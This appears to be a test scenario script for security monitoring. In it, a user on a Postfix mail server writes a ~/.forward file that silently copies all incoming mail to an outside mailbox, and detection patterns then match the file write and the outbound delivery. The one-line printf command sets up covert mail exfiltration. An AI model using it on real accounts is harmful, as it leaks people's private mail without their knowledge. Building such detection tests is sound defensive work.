# No harvesting program at all: a .forward lets the mail server carry everything outside.
title="~/.forward added, the mail server copies all mail to an outside mailbox"
what="In a short login as intern a ~/.forward is written that keeps a local copy and sends every message to an outside mailbox. From then on Postfix itself delivers each new message to 203.0.113.10 as well."
host=mx1.example.org user=intern daemons="cron sshd" store=mbox

act() {
  small_talk 3
  mail_in --from coach@example.com --to intern@example.org --subject "First week" --source 203.0.113.25 --helo smtp.example.com
  wait_mail intern 1
  ssh_as intern <<'L'
ls -la
printf '\\intern\nintern.copy@example.net\n' > .forward
cat .forward
L
  for n in 1 2 3 4; do mail_in --from "team$n@example.com" --to intern@example.org --subject "Plan $n" --source 203.0.113.25 --helo smtp.example.com; sleep 1; done
  wait_log 'to=<intern.copy@example.net>.*status=sent'
  small_talk 2
}
truth() {
  file_step forward 'bash open(at)?:write CREATE .*\.forward' 'a .forward is written'
  mail_step copied 'to=<intern.copy@example.net>, orig_to=<intern@example.org>.*status=sent' 'Postfix delivers the next message outside'
}
